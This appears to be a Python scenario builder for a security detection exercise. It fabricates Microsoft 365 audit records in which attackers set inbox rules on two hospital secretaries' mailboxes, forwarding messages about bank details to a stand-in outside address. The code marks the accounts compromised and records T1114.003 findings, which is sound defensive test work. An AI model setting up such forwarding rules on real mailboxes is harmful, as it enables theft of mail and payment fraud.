"""Inbox rules that send mail outside: by web mail (New-InboxRule) and by desktop Outlook (UpdateInboxRules)."""
from hospital import LAGOS
from microsoft import bag
from scene import Scene

OUT = "collecte.rib@boite-rapide.example"


def make(name):
    scene = Scene(name)
    scene.live()
    web, desktop = scene.person("secretaire.cardio1"), scene.person("secretaire.pneumo1")
    session = scene.intrusion(web, scene.moment(4, 2))
    scene.ms.inbox_rule(scene.moment(4, 6), web, LAGOS, "Sauvegarde", session, ForwardTo=f"\"{OUT}\" [SMTP:{OUT}]", SubjectContainsWords="RIB")
    session = scene.intrusion(desktop, scene.moment(4, 32))
    rule = scene.ms._item(scene.moment(4, 36), "UpdateInboxRules", 2, desktop, LAGOS, "Client=MSExchangeRPC", session)
    rule["OperationProperties"] = bag(RuleOperation="AddMailboxRule", RuleId="-8802438871012", RuleState="Enabled", RuleName="a", RuleCondition="(RuleSubject Like virement)",
                                      RuleProvider="RuleOrganizer",
                                      RuleActions=f'[{{"ActionType":"Forward","Recipients":["{OUT}"],"ForwardFlags":"None"}}]')
    scene.ms.audit.append(rule)
    scene.compromised(web, desktop)
    scene.others_are_clear(web, desktop)
    scene.finding("T1114.003", web, "New-InboxRule", OUT)
    scene.finding("T1114.003", desktop, "UpdateInboxRules", OUT)
    return scene
